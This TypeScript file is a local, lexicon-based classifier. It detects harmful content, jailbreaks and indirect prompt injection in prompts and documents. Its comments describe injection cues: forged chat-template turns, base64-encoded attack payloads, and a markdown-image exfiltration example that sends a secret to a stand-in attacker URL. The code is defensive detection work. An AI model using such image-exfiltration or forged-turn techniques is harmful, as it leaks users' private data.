import {
  ClassifierUnavailableError,
  HARM_CATEGORIES,
  SEVERITIES,
  type CategoryVerdict,
  type Classification,
  type ClassifyInput,
  type HarmCategory,
  type Signal,
  type TextClassifier,
} from '../classifier.js';
import { ATTACK_LEXICON, INDIRECT_WEIGHTS, JAILBREAK_WEIGHTS, TEMPLATE_MARKERS } from './attack-lexicon.js';
import { AttackScorer } from './attack-scoring.js';
import { CONTEXT_LEXICON } from './context-lexicon.js';
import { findEncodedPayloads } from './encoded-payloads.js';
import { HASHED_SLURS, HATE_LEXICON } from './hate-lexicon.js';
import { Tag } from './lexicon-tags.js';
import { PhraseMatcher } from './phrase-matcher.js';
import { PROFANITY_LEXICON } from './profanity-lexicon.js';
import { SELF_HARM_LEXICON } from './self-harm-lexicon.js';
import { judgeCategories, type CategoryLevels } from './severity-rules.js';
import { SEXUAL_LEXICON } from './sexual-lexicon.js';
import { tokenise } from './text-normaliser.js';
import { VIOLENCE_LEXICON } from './violence-lexicon.js';

/**
 * The built-in classifier: lexicons and context rules, no model and no network. It answers every
 * signal (the four harm categories, jailbreak, indirect attack, profanity) in tens of
 * microseconds for a typical prompt and about half a millisecond for a 4,000-token one (measured
 * by eval/evaluate.mjs), so it can run inline on every request and on streamed output. It is a first line, not a judge: it knows the words and
 * a little grammar, not meaning. docs/content-safety-classifier.md lists what it misses and how
 * to put a model-backed classifier behind it.
 *
 * - Categories and profanity are judged on `text` (prompt or completion), including any
 *   `<documents>…</documents>` sections in it and any base64 payload decoded from it.
 * - Jailbreak is judged, for prompts only, on `text` outside `<documents>` sections.
 * - Indirect attack is judged, for prompts only, on `<documents>` sections and on `documents`.
 * - For completions, `jailbreak` and `indirect_attack` are absent: they describe attacks on the
 *   model, which a completion is not.
 *
 * All lexicons are compiled once per process, on first construction, into one matcher; `classify`
 * does no compilation of any kind.
 */

/**
 * Score reported for a category at each level; a category whose words appear but judge safe gets
 * SAFE_TOUCHED_SCORE.
 */
const LEVEL_SCORES = [0, 0.4, 0.7, 0.92];
const SAFE_TOUCHED_SCORE = 0.1;
/** Attack score at or above which jailbreak / indirect attack is reported as detected. */
export const ATTACK_THRESHOLD = 0.5;
/** Weight of a chat-template control string ("<|im_start|>system") found in the text. */
const TEMPLATE_MARKER_WEIGHT = 0.7;
/**
 * Weight of a markdown image pointing at a URL in a document: the usual channel for exfiltrating
 * data through a client that renders images ("![x](https://attacker/?q=SECRET)").
 */
const MARKDOWN_IMAGE_WEIGHT = 0.3;
/** Weight of a base64 payload that decodes to text; and of one whose text is itself an attack. */
const PAYLOAD_WEIGHT = 0.3;
const ATTACK_PAYLOAD_WEIGHT = 0.9;

const DOCUMENTS_OPEN = '<documents>';
const DOCUMENTS_CLOSE = '</documents>';

interface Engine {
  readonly matcher: PhraseMatcher;
  readonly jailbreak: AttackScorer;
  readonly indirect: AttackScorer;
}

let engine: Engine | undefined;

function compiledEngine(): Engine {
  engine ??= {
    matcher: new PhraseMatcher(
      [
        ...CONTEXT_LEXICON,
        ...VIOLENCE_LEXICON,
        ...SELF_HARM_LEXICON,
        ...SEXUAL_LEXICON,
        ...HATE_LEXICON,
        ...ATTACK_LEXICON,
        ...PROFANITY_LEXICON,
      ],
      { hashedTerms: HASHED_SLURS, benignTag: Tag.BENIGN },
    ),
    jailbreak: new AttackScorer({ tags: JAILBREAK_WEIGHTS, exfiltration: false }),
    indirect: new AttackScorer({ tags: INDIRECT_WEIGHTS, exfiltration: true }),
  };
  return engine;
}

/**
 * What one text contributes; computed in full before the next text is tokenised, because the
 * tokeniser and the matcher reuse their buffers.
 */
interface Analysis {
  readonly levels: CategoryLevels | undefined;
  readonly profane: boolean;
  /** Attack score under the scorer asked for, 0 when none was. */
  readonly attack: number;
  /** The normalised text and where base64 payloads may start in it (see TokenStream.mixedCase). */
  readonly source: string;
  readonly payloadHints: readonly number[];
}

export class LocalClassifier implements TextClassifier {
  readonly name = 'local';
  readonly provides: ReadonlySet<Signal> = new Set<Signal>(['categories', 'jailbreak', 'indirect_attack', 'profanity']);
  private readonly engine: Engine;

  constructor() {
    this.engine = compiledEngine();
  }

  async classify(input: ClassifyInput, signal?: AbortSignal): Promise<Classification> {
    if (signal?.aborted) throw new ClassifierUnavailableError(this.name, 'aborted', { cause: signal.reason });
    return this.classifySync(input);
  }

  /** The same answer as `classify`, synchronously (it never waits on anything). */
  classifySync(input: ClassifyInput): Classification {
    const { text, direction } = input;
    const prompt = direction === 'prompt';
    const { jailbreak, indirect } = this.engine;
    const { outside, inside } = prompt ? splitDocuments(text) : { outside: text, inside: [] };

    // Categories and profanity: the prompt outside and inside <documents>, and decoded payloads.
    const main = this.analyse(outside, true, prompt ? jailbreak : undefined);
    const judged: Analysis[] = [main];
    let jailbreakScore = main.attack;
    if (prompt && hasTemplateMarker(outside)) {
      jailbreakScore = jailbreak.combine(jailbreakScore, TEMPLATE_MARKER_WEIGHT);
    }
    for (const payload of payloadsOf(main)) {
      const decoded = this.analyse(payload, true, jailbreak);
      judged.push(decoded);
      jailbreakScore = jailbreak.combine(jailbreakScore, PAYLOAD_WEIGHT);
      if (decoded.attack >= ATTACK_THRESHOLD) jailbreakScore = jailbreak.combine(jailbreakScore, ATTACK_PAYLOAD_WEIGHT);
    }
    let indirectScore = 0;
    for (const section of inside) {
      const analysis = this.analyse(section, true, indirect);
      judged.push(analysis);
      indirectScore = Math.max(indirectScore, this.documentScore(section, analysis));
    }

    const categories = {} as Record<HarmCategory, CategoryVerdict>;
    for (const category of HARM_CATEGORIES) {
      let level = 0;
      let touched = false;
      for (const analysis of judged) {
        const judgedLevel = analysis.levels![category];
        if (judgedLevel.level > level) level = judgedLevel.level;
        touched ||= judgedLevel.touched;
      }
      categories[category] = {
        severity: SEVERITIES[level],
        score: level === 0 && touched ? SAFE_TOUCHED_SCORE : LEVEL_SCORES[level],
      };
    }
    const profanity = { detected: judged.some((analysis) => analysis.profane) };
    if (!prompt) return { categories, profanity };

    // Documents and tool results: judged for indirect attacks only.
    for (const document of input.documents ?? []) {
      const analysis = this.analyse(document, false, indirect);
      indirectScore = Math.max(indirectScore, this.documentScore(document, analysis));
    }
    return {
      categories,
      profanity,
      jailbreak: { detected: jailbreakScore >= ATTACK_THRESHOLD, score: round(jailbreakScore) },
      indirect_attack: { detected: indirectScore >= ATTACK_THRESHOLD, score: round(indirectScore) },
    };
  }

  /** A document's indirect-attack score: its own cues, forged template turns, encoded attacks. */
  private documentScore(raw: string, analysis: Analysis): number {
    const { indirect } = this.engine;
    let score = analysis.attack;
    if (hasTemplateMarker(raw)) score = indirect.combine(score, TEMPLATE_MARKER_WEIGHT);
    if (raw.includes('](http') && raw.includes('![')) score = indirect.combine(score, MARKDOWN_IMAGE_WEIGHT);
    for (const payload of payloadsOf(analysis)) {
      if (this.analyse(payload, false, indirect).attack >= ATTACK_THRESHOLD) {
        score = indirect.combine(score, ATTACK_PAYLOAD_WEIGHT);
      }
    }
    return score;
  }

  private analyse(text: string, judge: boolean, scorer: AttackScorer | undefined): Analysis {
    const stream = tokenise(text);
    const hits = this.engine.matcher.match(stream);
    let profane = false;
    for (const t of hits.tag) {
      if (t === Tag.PROFANITY) {
        profane = true;
        break;
      }
    }
    return {
      levels: judge ? judgeCategories(stream, hits) : undefined,
      profane,
      attack: scorer ? scorer.score(stream, hits) : 0,
      source: stream.source,
      payloadHints: stream.mixedCase,
    };
  }
}

/** The prompt outside `<documents>…</documents>` sections, and the sections' contents. */
function splitDocuments(text: string): { outside: string; inside: string[] } {
  let open = text.indexOf(DOCUMENTS_OPEN);
  if (open < 0) return { outside: text, inside: [] };
  const inside: string[] = [];
  let outside = '';
  let from = 0;
  while (open >= 0) {
    outside += text.slice(from, open) + '\n\n';
    const bodyStart = open + DOCUMENTS_OPEN.length;
    const close = text.indexOf(DOCUMENTS_CLOSE, bodyStart);
    // An unclosed section runs to the end of the prompt.
    const bodyEnd = close < 0 ? text.length : close;
    inside.push(text.slice(bodyStart, bodyEnd));
    from = close < 0 ? text.length : close + DOCUMENTS_CLOSE.length;
    open = text.indexOf(DOCUMENTS_OPEN, from);
  }
  outside += text.slice(from);
  return { outside, inside };
}

function payloadsOf(analysis: Analysis): string[] {
  return analysis.payloadHints.length === 0 ? [] : findEncodedPayloads(analysis.source, analysis.payloadHints);
}

function hasTemplateMarker(text: string): boolean {
  for (const marker of TEMPLATE_MARKERS) if (text.includes(marker)) return true;
  return false;
}

function round(score: number): number {
  return Math.round(score * 1000) / 1000;
}
